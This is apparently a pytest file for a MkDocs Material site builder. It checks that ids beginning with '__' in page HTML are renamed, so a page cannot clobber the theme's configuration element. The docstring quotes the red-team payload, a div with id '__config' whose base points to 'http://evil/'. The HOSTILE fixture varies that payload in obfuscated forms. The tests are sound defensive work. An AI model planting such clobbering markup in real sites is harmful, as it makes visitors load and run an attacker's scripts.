"""Red-team finding 3: a page's raw HTML, attr_list or headings must not give an element an id
of the theme's. Material reads its configuration with ``document.querySelector("#__config")``
and a page's element comes before the theme's ``<script id="__config">``: a page's
``<div id="__config">{"base": "http://evil/", "version": {"provider": "mike"}}</div>`` made
every visitor fetch JSON from another host and run its script. Ids starting with ``__`` (all of
Material's: __config, __search, __drawer, __toc, __palette_0 …) are renamed ``user-content-…``
with a PAGE_HTML warning, links to them alike; footnote ids and the ``_1`` ids Markdown's table
of contents gives Chinese headings are kept."""

from __future__ import annotations

import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest

from gongkai.render import rawhtml
from sitebuild import MKDOCS, make_project, quiet_env, sample_text

EXTENSIONS = ["toc", "attr_list", "footnotes", "md_in_html", "admonition", "tables"]
CONFIG = '{"base": "http://127.0.0.1:9/a/", "version": {"provider": "mike"}}'


def build(project: Path, site: Path) -> subprocess.CompletedProcess:
    """``mkdocs build`` (not ``-q``: a quiet build does not count warnings for strict mode)."""
    env = {**quiet_env(), "GONGKAI_PDF": "0"}
    return subprocess.run(
        [str(MKDOCS), "build", "-d", str(site)],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
        check=False,
    )


def to_html(text: str) -> str:
    return markdown.markdown(text, extensions=EXTENSIONS, extension_configs={"toc": {"permalink": True}})


class _Ids(HTMLParser):
    """Every id and every id reference (for, aria-*, href fragments) in a piece of HTML."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.ids: list = []
        self.refs: list = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name == "id":
                self.ids.append(value)
            elif name in ("for", "name") or name.startswith("aria-"):
                self.refs.extend(value.split())
            elif name == "href" and value.startswith("#"):
                self.refs.append(value[1:])

    handle_startendtag = handle_starttag


def ids_of(html: str) -> _Ids:
    found = _Ids()
    found.feed(html)
    found.close()
    return found


HOSTILE = f"""# __config

<div id="__config">{CONFIG}</div>

<div id=" __search">x</div>

<p id="&#95;_drawer">entity</p>

Para with attr_list
{{: #__toc }}

## 标题 {{: #__palette_0 }}

[jump](#__config) [entity](#%5F_consent) [other page](other.md#__nav_1)
"""


def test_theme_ids_are_renamed_and_links_follow():
    cleaned, problems = rawhtml.clean_page(to_html(HOSTILE), "content/p.md", "", None)
    found = ids_of(cleaned)
    assert not [i for i in found.ids + found.refs if i.strip().startswith("__")], cleaned
    assert 'id="user-content-__config"' in cleaned and CONFIG.split(",")[0] in cleaned.replace("&quot;", '"')
    for name in ("__search", "__drawer", "__toc", "__palette_0"):
        assert f'id="user-content-{name}"' in cleaned, name
    # in-page links still reach their (renamed) targets
    assert 'href="#user-content-__config"' in cleaned and 'href="#user-content-__consent"' in cleaned
    assert set(found.refs) - {"user-content-__consent"} <= set(found.ids), (found.refs, found.ids)
    assert 'href="other.md#user-content-__nav_1"' in cleaned
    # one PAGE_HTML warning per id, naming it and what it became
    messages = [p.message for p in problems]
    assert all(p.code == "PAGE_HTML" and p.file == "content/p.md" for p in problems)
    for name in ("__config", "__search", "__drawer", "__toc", "__palette_0", "__consent", "__nav_1"):
        assert sum(f"id “{name}”" in m and f"user-content-{name}" in m for m in messages) == 1, (name, messages)


def test_warning_names_the_line_of_the_page(tmp_path):
    source = tmp_path / "p.md"
    source.write_text("# 标题\n\n正文。\n\n<div id=\"__config\">{}</div>\n", encoding="utf-8")
    _, problems = rawhtml.clean_page(to_html(source.read_text(encoding="utf-8")), "content/p.md", "", source)
    assert [(p.code, p.line) for p in problems] == [("PAGE_HTML", 5)]
    assert "__config" in problems[0].human() and "user-content-__config" in problems[0].human()


@pytest.mark.parametrize(
    "name",
    # Material's ids (templates and bundle of mkdocs-material 9), and any other "__" id
    [
        "__config",
        "__search",
        "__drawer",
        "__toc",
        "__settings",
        "__consent",
        "__analytics",
        "__announce",
        "__outdated",
        "__source",
        "__tabs",
    ]
    + [
        "__palette_0",
        "__palette_1",
        "__nav_2_3",
        "__code_0",
        "__codelineno-0-1",
        "__tabbed_1_1",
        "__md_scope",
        "__anything",
    ],
)
def test_every_theme_id_is_renamed_however_it_is_written(name):
    for html in (
        f'<div id="{name}">x</div>',
        f'<span id="{name} ">x</span>',
        f'<a href="#{name}">x</a>',
        f'<h2 id="{name}">x</h2>',
    ):
        cleaned = rawhtml.clean(html)
        found = ids_of(cleaned)
        assert all(not i.strip().startswith("__") for i in found.ids + found.refs), cleaned
        assert f"user-content-{name}" in cleaned


def test_toc_slug_of_a_heading_is_renamed():
    """The id a heading gets from its text (toc) is checked after Markdown, like any other."""
    cleaned, problems = rawhtml.clean_page(to_html("# __config\n\n## __search\n"), "p.md")
    assert re.search(
        r'<h1 id="user-content-__config">__config<a class="headerlink" href="#user-content-__config"', cleaned
    ), cleaned
    assert 'id="user-content-__search"' in cleaned and len(problems) == 2


def test_the_module_lists_the_theme_ids():
    assert all(rawhtml.reserved_id(name) for name in rawhtml.THEME_IDS)
    assert not rawhtml.reserved_id("_1") and not rawhtml.reserved_id("fn:1") and not rawhtml.reserved_id("config")


def test_ordinary_ids_footnotes_and_chinese_headings_are_untouched():
    text = (
        "# 工作目标\n\n## 工作目标\n\n## Plan {: #plan }\n\n正文[^1]，又一处[^note]。\n\n"
        '[^1]: 注一\n[^note]: 注二\n\n<div id="_single">x</div>\n\n[去](#_1)\n'
    )
    html = to_html(text)
    cleaned, problems = rawhtml.clean_page(html, "p.md")
    assert problems == []
    found = ids_of(cleaned)
    assert {"_1", "_2", "plan", "fn:1", "fnref:1", "fn:note", "fnref:note", "_single"} <= set(found.ids), found.ids
    assert {"fn:1", "fnref:1", "fn:note", "_1"} <= set(found.refs)
    assert ids_of(html).ids == found.ids and ids_of(html).refs == found.refs  # nothing renamed


def test_the_print_html_renames_too():
    assert 'id="user-content-__config"' in rawhtml.clean_for_print('<div id="__config">{}</div>')


def test_built_site_has_only_the_themes_config_and_strict_build_fails(tmp_path):
    """The reproduction of the finding, built: only Material's own <script id="__config">
    remains, and the strict build fails on the PAGE_HTML warning."""
    project = make_project(
        tmp_path / "p",
        {"data/2021/dept/a.yaml": sample_text()},
        {"index.md": f"# 测试首页\n\n<div id=\"__config\">{CONFIG}</div>\n\n正文\n{{: #__search }}\n"},
    )
    strict = project / "mkdocs.yml"
    strict.write_text(strict.read_text(encoding="utf-8") + "strict: true\n", encoding="utf-8")
    result = build(project, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0, output[-3000:]
    assert "PAGE_HTML" in output and "__config" in output and "Traceback" not in output

    strict.write_text(strict.read_text(encoding="utf-8").replace("strict: true\n", "strict: false\n"), encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    page = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    assert len(re.findall(r'\bid="__config"', page)) == 1
    assert re.search(r'<script id="__config" type="application/json">', page)
    assert 'id="user-content-__config"' in page and 'id="user-content-__search"' in page
    assert len(re.findall(r'\bid="__search"', page)) == 1  # the theme's search toggle only
